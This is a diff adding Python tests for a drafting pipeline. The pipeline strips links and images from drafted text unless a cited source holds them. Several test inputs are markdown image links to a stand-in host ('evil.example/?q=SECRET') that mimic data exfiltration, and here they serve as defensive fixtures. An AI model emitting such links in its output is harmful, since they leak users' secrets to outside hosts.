@@ -1,0 +1,76 @@
+"""What is told of a draft: its sections as they stand without foreign links, and what was taken out."""
+
+from collections.abc import AsyncIterator
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from graph.events import AnyEvent, ContentRemoved, SectionFinished, SectionStarted, TextDelta
+from graph.evidence import Segment
+from graph.ports import Draft, DraftClosed, DraftOpened, DraftText
+from nodes.drafting import guarded, told
+
+SOURCE = Segment("d", 0, 0, 42, "The form is at https://docs.example/form.", url="https://wiki.example/leave")
+OTHER = Segment("e", 0, 0, 30, "See https://other.example/page.")
+SEGMENTS = {"d:0": SOURCE, "e:0": OTHER}
+
+
+async def drafted(*sections: tuple[str, tuple[str, ...]], cut: int = 3) -> AsyncIterator[Draft]:
+    for text, ids in sections:
+        yield DraftOpened()
+        for at in range(0, len(text), cut):
+            yield DraftText(text[at : at + cut])
+        yield DraftClosed(text, ids, 1)
+
+
+async def hear(*sections: tuple[str, tuple[str, ...]], cut: int = 3):
+    events: list[AnyEvent] = []
+    return await told(drafted(*sections, cut=cut), events.append, segments=SEGMENTS), events
+
+
+async def test_a_link_stays_only_where_the_section_cites_a_source_that_holds_it() -> None:
+    sections, events = await hear(
+        ("Fill [the form](https://docs.example/form), see https://wiki.example/leave", ("d:0",)),
+        ("Fill [the form](https://docs.example/form).", ("e:0",)),
+        ("![x](https://evil.example/?q=SECRET) Done.", ("d:0", "e:0")),
+    )
+    assert [section["text"] for section in sections] == [
+        "Fill [the form](https://docs.example/form), see https://wiki.example/leave",
+        "Fill the form.",
+        "x Done.",
+    ]
+    assert [(each.section_index, each.kind, each.target) for each in events if isinstance(each, ContentRemoved)] == [
+        (1, "link", "https://docs.example/form"),
+        (2, "image", "https://evil.example/?q=SECRET"),
+    ]
+
+
+async def test_a_section_that_was_a_link_and_nothing_else_is_left_out() -> None:
+    sections, events = await hear(("![](https://evil.example/?q=SECRET)", ("d:0",)), ("Twenty-five days.", ("d:0",)))
+    assert [section["text"] for section in sections] == ["Twenty-five days."]
+    assert [type(event) for event in events[:2]] == [ContentRemoved, SectionStarted]
+    assert "SECRET" not in "".join(event.delta for event in events if isinstance(event, TextDelta))
+
+
+async def test_without_sources_no_link_goes_out() -> None:
+    events: list[AnyEvent] = []
+    sections = await told(drafted(("Hello, see https://docs.example/form!", ())), events.append)
+    assert sections == [{"text": "Hello, see …!", "source_ids": []}]
+
+
+def test_a_section_that_was_not_streamed_is_guarded_alike() -> None:
+    text, removed = guarded("See [it](https://evil.example) at https://docs.example/form.", ["d:0"], SEGMENTS)
+    assert text == "See it at https://docs.example/form."
+    assert [each.target for each in removed] == ["https://evil.example"]
+
+
+@given(st.integers(1, 90))
+async def test_joined_deltas_are_the_section_however_it_is_cut(cut: int) -> None:
+    text = (
+        "Twenty-five days [see the form](https://evil.example/?q=SECRET) and ![a][b] more.\n\n[b]: https://evil.example"
+    )
+    sections, events = await hear((text, ("d:0",)), cut=cut)
+    (finished,) = [event for event in events if isinstance(event, SectionFinished)]
+    assert "".join(event.delta for event in events if isinstance(event, TextDelta)) == finished.text
+    assert finished.text == sections[0]["text"] == "Twenty-five days see the form and a more."
+    assert finished.unknown_ids == 1
